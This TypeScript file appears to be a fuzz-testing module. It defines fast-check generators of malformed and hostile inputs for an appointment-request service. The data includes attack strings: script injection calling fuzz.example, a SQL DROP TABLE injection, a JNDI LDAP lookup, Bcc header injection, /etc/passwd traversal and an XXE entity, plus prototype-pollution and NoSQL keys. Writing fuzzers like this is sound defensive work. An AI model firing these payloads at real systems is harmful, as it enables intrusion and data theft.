import fc from 'fast-check';

const deep = (depth: number): unknown => {
  let value: unknown = 0;
  for (let level = 0; level < depth; level += 1) value = level % 2 ? [value] : { a: value };
  return value;
};

/** Text that becomes markup if it is not escaped. */
const markup = '"><script src="//fuzz.example"></script><img src=x onerror=fuzz()>';

/** Values that no field expects, or that have broken programs before. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom<unknown>(
    null,
    true,
    0,
    -0,
    -1,
    1.5,
    1e308,
    Number.MAX_SAFE_INTEGER + 2,
    '',
    ' ',
    '\u0000',
    '\u202egnp.exe',
    '\ud800',
    '\ufeff',
    'a\r\nBcc: victim@example.com',
    "'; DROP TABLE appointment_requests; --",
    '$\u007bjndi:ldap://fuzz.example}',
    '../../etc/passwd',
    '{{brand}}',
    '__proto__',
    'constructor',
    markup,
    '<scr<script>ipt>'.repeat(50),
    '<'.repeat(5000),
    'a@'.repeat(5000),
    `${'a'.repeat(250)}@${'b.'.repeat(2000)}com`,
    '\u0301'.repeat(3000),
    '👩‍👩‍👧‍👦'.repeat(400),
    'ﷺ'.repeat(999),
    [],
    {},
    [[[]]],
    { toString: 'x', valueOf: 'y', toJSON: 'z' },
    { $ne: null },
    { S: 'text', N: '1' },
    deep(40),
    deep(3000),
    Array.from({ length: 5000 }, () => 0),
  ),
  fc.string({ unit: 'binary', maxLength: 300 }),
  fc.double(),
  fc.jsonValue({ maxDepth: 3 }),
);

/** Keys that mean something to JavaScript, the tables or the functions, and that no body may add. */
export const hostileKey: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'hasOwnProperty',
    '',
    'Id',
    'to',
    'bcc',
    'pending',
    'pending_at',
    'notices',
    'reference',
    'suspect',
    'body_hash',
    'created_at',
    'expires_at',
    'sender_network',
    'submission_id',
    'elaborations.__proto__',
  ),
  fc.string({ maxLength: 12 }),
);

/** Bodies that are not objects, or not even text. */
export const hostileBytes: fc.Arbitrary<Uint8Array> = fc.oneof(
  fc.uint8Array({ maxLength: 200 }),
  fc
    .constantFrom(
      '',
      ' ',
      'null',
      'true',
      '0',
      '"text"',
      '[]',
      '[{}]',
      '{}',
      '{',
      '{"id":',
      '{"id":1e99999}',
      '{"id":NaN}',
      "{'id':'x'}",
      '{"id":"x",}',
      '{"id":"x"}{"id":"y"}',
      '/* */{}',
      '\ufeff{}',
      '{"id":"\\ud800"}',
      '{"id":"\\u0000"}',
      '{"__proto__":{"consent":true}}',
      '{"constructor":{"prototype":{"consent":true}}}',
      '['.repeat(30_000),
      `${'{"a":'.repeat(10_000)}0${'}'.repeat(10_000)}`,
      `{"age":${'9'.repeat(5000)}}`,
      `"${'x'.repeat(66_000)}"`,
      '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    )
    .map((body) => new TextEncoder().encode(body)),
  fc.constantFrom(
    // Overlong, truncated and invalid UTF-8, and UTF-16 with a byte order mark.
    Uint8Array.of(0x7b, 0x22, 0xc0, 0xaf, 0x22, 0x3a, 0x31, 0x7d),
    Uint8Array.of(0x7b, 0x22, 0xed, 0xa0, 0x80, 0x22, 0x3a, 0x31, 0x7d),
    Uint8Array.of(0xf4, 0x90, 0x80, 0x80),
    Uint8Array.of(0xe2, 0x82),
    Uint8Array.of(0xff, 0xfe, 0x7b, 0x00, 0x7d, 0x00),
  ),
);
